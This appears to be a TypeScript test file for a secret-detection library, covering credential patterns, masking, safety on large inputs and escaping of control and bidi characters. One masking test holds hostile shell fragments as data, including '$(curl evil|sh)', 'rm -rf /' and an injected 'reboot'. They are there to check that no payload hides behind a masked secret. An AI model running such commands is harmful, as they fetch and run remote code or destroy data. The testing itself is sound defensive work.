import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { escapeControls, jsonText, terminalText } from '../src/display/index.js';
import { findSecrets, isSecretField, maskSecretSpans, type SecretKind } from '../src/secrets/index.js';

const kinds = (text: string) => findSecrets(text).map((s) => [s.kind, text.slice(s.start, s.end)]);

describe('secret detector', () => {
  const cases: [SecretKind, string, string][] = [
    ['aws_access_key_id', 'id AKIAIOSFODNN7EXAMPLE here', 'AKIAIOSFODNN7EXAMPLE'],
    ['google_api_key', 'key=AIzaSyA1234567890abcdefghijklmnopqrstuv', 'AIzaSyA1234567890abcdefghijklmnopqrstuv'],
    ['azure_account_key', 'DefaultEndpointsProtocol=https;AccountName=x;AccountKey=abcdEFGH1234abcdEFGH1234==;EndpointSuffix', 'abcdEFGH1234abcdEFGH1234=='],
    ['github_token', 'token ghp_' + 'a1'.repeat(18) + ' ok', 'ghp_' + 'a1'.repeat(18)],
    ['github_token', 'github_pat_11ABCDEFG0123456789_abcdefghijklmnop', 'github_pat_11ABCDEFG0123456789_abcdefghijklmnop'],
    ['gitlab_token', 'glpat-abcdefghij0123456789', 'glpat-abcdefghij0123456789'],
    ['slack_token', 'xoxb-123456789012-abcdefABCDEF', 'xoxb-123456789012-abcdefABCDEF'],
    ['slack_webhook', 'https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX', 'T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX'],
    ['stripe_key', 'sk_live_' + '4eC39HqLyjWDarjtT1zdp7dc', 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'],
    ['npm_token', 'npm_' + 'a'.repeat(36), 'npm_' + 'a'.repeat(36)],
    ['openai_key', 'sk-proj-abcdefghijklmnopqrstuvwx', 'sk-proj-abcdefghijklmnopqrstuvwx'],
    ['jwt', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.sflKxwRJSMeKKF2QT4fwpM', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.sflKxwRJSMeKKF2QT4fwpM'],
    ['connection_password', 'postgres://app:s3cr%40t@db:5432/prod', 's3cr%40t'],
    ['bearer_token', 'Authorization: Bearer abc.def-ghi_jkl', 'abc.def-ghi_jkl'],
    ['basic_credentials', 'Authorization: Basic dXNlcjpwYXNz', 'dXNlcjpwYXNz'],
    ['env_secret', 'DB_PASSWORD=hunter22\nSTRIPE_SECRET=x', 'hunter22'],
    ['env_secret', 'export GITHUB_TOKEN="abc123"', 'abc123'],
    ['quoted_secret', '{"user": "app", "db_password": "hunter22"}', 'hunter22'],
    ['quoted_secret', '{"clientSecret":"abc123"}', 'abc123'],
    ['private_key', 'k: -----BEGIN RSA PRIVATE KEY-----\nMIIEow\nAbc+/=\n-----END RSA PRIVATE KEY----- end', '-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nAbc+/=\n-----END RSA PRIVATE KEY-----'],
    ['private_key', '-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaA==\\n-----END OPENSSH PRIVATE KEY-----', '-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaA==\\n-----END OPENSSH PRIVATE KEY-----'],
  ];
  for (const [kind, text, secret] of cases) {
    it(`finds ${kind} in ${JSON.stringify(text.slice(0, 40))}`, () => {
      assert.deepEqual(kinds(text)[0], [kind, secret]);
    });
  }

  it('offsets are UTF-16 offsets into the text, after non-ASCII text too', () => {
    const text = 'é€😀 → AKIAIOSFODNN7EXAMPLE';
    const [s] = findSecrets(text);
    assert.equal(text.slice(s.start, s.end), 'AKIAIOSFODNN7EXAMPLE');
  });

  it('no span covers whitespace or shell syntax, so a payload cannot hide behind a secret-shaped prefix', () => {
    const text = 'Bearer abcdefghij$(curl evil|sh) postgres://u:pw;reboot@h API_KEY=`id` -----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----';
    const masked = maskSecretSpans(text).text;
    for (const visible of ['$(curl evil|sh)', 'pw;reboot@h', 'API_KEY=`id`', 'rm -rf /']) assert.ok(masked.includes(visible), `${visible} stays visible in ${masked}`);
    assert.equal(masked, 'Bearer [masked bearer_token]$(curl evil|sh) postgres://u:pw;reboot@h API_KEY=`id` -----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----');
  });

  it('ordinary text has no secrets', () => {
    for (const text of ['{"max_tokens": "100"}', '{"secret_name": "db"}', '{"password_hint": "pet"}', 'prod/customers.db', 'SELECT * FROM users WHERE id = 1', 'https://example.com/a?b=c', 'MONKEY=banana', 'the key is in the drawer', 'primary_key=id']) {
      assert.deepEqual(findSecrets(text), [], text);
    }
  });

  it('hostile 1 MB inputs finish (every pattern is linear-time RE2) and find what is there', () => {
    const MB = 1 << 20;
    const hostile = [
      'Bearer '.repeat(MB / 7), 'eyJ'.repeat(MB / 3), 'eyJa.'.repeat(MB / 5), 'AKIA'.repeat(MB / 4), '-----BEGIN PRIVATE KEY-----\n'.repeat(MB / 28),
      'a://'.repeat(MB / 4), 'x://u:'.repeat(MB / 6), 'A_KEY='.repeat(MB / 6), 'ghp_'.repeat(MB / 4), 'sk-'.repeat(MB / 3), 'xoxb-'.repeat(MB / 5), '"password":"'.repeat(MB / 12),
      'a'.repeat(MB), ' '.repeat(MB), 'AKIA' + 'A'.repeat(MB),
      'A'.repeat(64).concat('\n').repeat(MB / 65) + '-----END PRIVATE KEY-----', 'A\n-----END PRIVATE KEY-----\n'.repeat(MB / 28), '-----END PRIVATE KEY-----'.repeat(MB / 25),
      `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(MB)}`, 'key%3D'.repeat(MB / 6),
    ];
    for (const text of hostile) assert.ok(Array.isArray(findSecrets(text)));
    const needle = 'x'.repeat(MB / 2) + ' AKIAIOSFODNN7EXAMPLE ' + 'Bearer '.repeat(MB / 14);
    assert.deepEqual(findSecrets(needle).map((s) => s.kind), ['aws_access_key_id']);
  });

  it('secret fields: exact matching of the unambiguous names, with separators and case normalised', () => {
    for (const name of ['password', 'Password', 'DB_PASSWORD', 'secret', 'client_secret', 'clientSecret', 'token', 'access_token', 'accessToken', 'refresh-token',
      'api_key', 'apiKey', 'api-key', 'X-Api-Key', 'APIKEY', 'authorization', 'Authorization', 'private_key', 'privateKey', 'aws_secret_access_key', 'passphrase']) {
      assert.equal(isSecretField(name), true, name);
    }
    for (const name of ['key', 'pin', 'auth', 'signature', 'otp', 'keyboard', 'tokens', 'max_tokens', 'token_count', 'token_type', 'secret_name', 'password_hint', 'monkey', 'primary_key', 'sort_key']) {
      assert.equal(isSecretField(name), false, name);
    }
  });
});

describe('display escaping', () => {
  it('control, invisible and bidi characters become escapes; ordinary text and emoji stay', () => {
    assert.equal(escapeControls('ok é 😀 → done'), 'ok é 😀 → done');
    assert.equal(escapeControls('a\x1b[2Kb'), 'a\\u{1B}[2Kb');
    assert.equal(escapeControls('x\u202Eexe.txt'), 'x\\u{202E}exe.txt');
    assert.equal(escapeControls('\u200B\u200D\u2066\uFEFF\u00AD\u{E0041}\u0085\u009B\u2028\u00A0'), '\\u{200B}\\u{200D}\\u{2066}\\u{FEFF}\\u{AD}\\u{E0041}\\u{85}\\u{9B}\\u{2028}\\u{A0}');
    assert.equal(escapeControls('one\ntwo\tthree\r'), 'one\\ntwo\\tthree\\r');
    assert.equal(escapeControls('one\ntwo', true), 'one\ntwo');
    assert.equal(escapeControls('\uD800x'), '\\u{D800}x');
  });

  it('terminal text keeps its lines; JSON text stays the same JSON', () => {
    assert.equal(terminalText('a\x1b[1A\nb\u202E'), 'a\\u{1B}[1A\nb\\u{202E}');
    const value = { s: 'a\u202Eb\u0085c\u{E0041}\u2028' };
    const json = jsonText(JSON.stringify(value, null, 2));
    assert.ok(!/[\u202E\u0085\u2028]|\uDB40/.test(json));
    assert.deepEqual(JSON.parse(json), value);
  });
});
